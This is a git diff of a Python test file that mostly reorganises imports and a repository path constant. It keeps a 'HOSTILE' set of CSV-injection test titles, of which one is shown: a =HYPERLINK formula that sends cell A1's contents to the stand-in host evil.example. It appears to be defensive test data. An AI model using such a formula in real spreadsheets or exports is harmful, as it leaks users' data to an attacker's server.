@@ -5,7 +5,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-from pathlib import Path
 
 import pytest
 import sqlalchemy as sa
@@ -16,12 +15,13 @@ from cxactions.foundations.extensions import db as _db
 from cxactions.impact.services import ImpactSettings, refresh_impact
 from cxactions.surveys.models import Metric
 from cxactions.taxonomy.models import Challenge
+from tests.drivers.test_drivers_cli import drivers, loaded  # noqa: F401
 from tests.impact_world import build_world
-from tests.test_challenges_cli import challenges
-from tests.test_drivers_cli import drivers, loaded  # noqa: F401
-from tests.test_priorities import add_signals, fixed_importance, import_world  # noqa: F401
+from tests.paths import REPO
+from tests.priorities.test_challenges_cli import challenges
+from tests.priorities.test_priorities import add_signals, fixed_importance, import_world  # noqa: F401
 
-PACKAGE = Path(__file__).resolve().parents[1] / "cxactions"
+PACKAGE = REPO / "cxactions"
 # Titles as an attacker would type them (OWASP's CSV injection examples).
 HOSTILE = {
     "SOL-GOOD": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
